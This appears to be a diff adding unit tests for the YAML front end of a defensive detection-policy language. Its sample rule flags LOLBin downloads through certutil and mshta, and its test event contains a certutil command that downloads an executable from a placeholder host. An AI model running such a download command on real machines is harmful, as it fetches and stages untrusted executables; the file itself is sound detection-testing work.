@@ -1,0 +1,86 @@
+import { describe, expect, it } from 'vitest';
+import { checkPolicies } from '../../../policy/check.ts';
+import { looksLikeLunaYaml, parseLunaYaml } from '../../../policy/yaml/parse.ts';
+import { noSpans, parse } from '../helpers.ts';
+
+const yamlSrc = `luna: 1
+policy: win-baseline
+version: 1.0.0
+engine: ">=0.1"
+defaults: { ProcessCreate: log }
+lists:
+  lolbins: ['\\certutil.exe', '\\mshta.exe']
+macros:
+  is_lolbin: Image endswith any lolbins
+rules:
+  - id: WIN-001
+    title: LOLBin downloads
+    on: ProcessCreate
+    level: high
+    tags: [attack.t1105]
+    when: |
+      is_lolbin
+        and CommandLine contains any ["http://", "https://"]
+    except:
+      - name: sccm
+        fields: [ParentImage]
+        values: ['C:\\Windows\\CCM\\CcmExec.exe']
+    action: alert high, kill
+tests:
+  - name: certutil downloads
+    on: ProcessCreate
+    event: { Image: 'C:\\Windows\\System32\\certutil.exe', CommandLine: "certutil -urlcache -f http://x/a.exe" }
+    expect: { match: WIN-001, actions: [alert, kill] }
+`;
+const lunaSrc = String.raw`policy "win-baseline" version "1.0.0" engine ">=0.1"
+default ProcessCreate log
+list lolbins = ['\certutil.exe', '\mshta.exe']
+macro is_lolbin = Image endswith any lolbins
+rule WIN-001 "LOLBin downloads" on ProcessCreate {
+  level high tags [attack.t1105]
+  when is_lolbin and CommandLine contains any ["http://", "https://"]
+  except sccm (ParentImage) { ('C:\Windows\CCM\CcmExec.exe') }
+  action alert high, kill
+}
+test "certutil downloads" on ProcessCreate {
+  event { Image: 'C:\Windows\System32\certutil.exe', CommandLine: "certutil -urlcache -f http://x/a.exe" }
+  expect match WIN-001 actions [alert, kill]
+}
+`;
+
+describe('.luna.yaml front end', () => {
+  it('detects YAML policies by the luna: 1 marker', () => {
+    expect(looksLikeLunaYaml(yamlSrc)).toBe(true);
+    expect(looksLikeLunaYaml('title: x\ndetection:\n  sel: {}\n')).toBe(false);
+  });
+  it('gives the same AST as the equivalent .luna text', () => {
+    const y = parseLunaYaml('w.luna.yaml', yamlSrc);
+    expect(y.diagnostics).toEqual([]);
+    const l = parse(lunaSrc, 'w.luna');
+    expect(l.diagnostics).toEqual([]);
+    expect({ ...noSpans(y.policies[0]), origin: 'luna' }).toEqual(noSpans(l.policy));
+    expect(checkPolicies(y.policies)).toEqual([]);
+  });
+  it('maps schema errors to line:col with did-you-mean', () => {
+    const r = parseLunaYaml('x.luna.yaml', 'luna: 1\npolicy: p\nrules:\n  - id: A\n    on: ProcessCreate\n    when: "true"\n    levle: high\n');
+    expect(r.diagnostics).toHaveLength(1);
+    expect(r.diagnostics[0]).toMatchObject({ code: 'LUN1031', span: { line: 7, col: 5 }, suggestion: 'did you mean level?' });
+    const lv = parseLunaYaml('x.luna.yaml', 'luna: 1\npolicy: p\nrules:\n  - id: A\n    on: ProcessCreate\n    when: "true"\n    level: hi\n');
+    expect(lv.diagnostics[0]).toMatchObject({ code: 'LUN1031', span: { line: 7, col: 12 } });
+    expect(lv.diagnostics[0].message).toMatch(/one of informational, low, medium, high, critical/);
+    const req = parseLunaYaml('x.luna.yaml', 'luna: 1\npolicy: p\nrules:\n  - id: A\n    on: ProcessCreate\n');
+    expect(req.diagnostics[0].message).toBe("rules.0 needs 'when'");
+  });
+  it('reports condition errors at their position inside block and quoted scalars', () => {
+    const src = 'luna: 1\npolicy: p\nrules:\n  - id: A\n    on: ProcessCreate\n    when: |\n      Image == "a"\n        and CommandLne contains "x"\n  - id: B\n    on: ProcessCreate\n    when: "Image == \'a\' and Imgae == \'b\'"\n';
+    const r = parseLunaYaml('x.luna.yaml', src);
+    expect(r.diagnostics).toEqual([]);
+    const d = checkPolicies(r.policies);
+    expect(d.map((x) => [x.code, x.span?.line, x.span?.col])).toEqual([['LUN2002', 8, 13], ['LUN2002', 11, 29]]);
+  });
+  it('reports YAML syntax errors with positions', () => {
+    const r = parseLunaYaml('x.luna.yaml', 'luna: 1\npolicy: p\nrules: [\n');
+    expect(r.diagnostics[0].code).toBe('LUN1030');
+    expect(r.diagnostics[0].span?.line).toBeGreaterThan(0);
+  });
+});
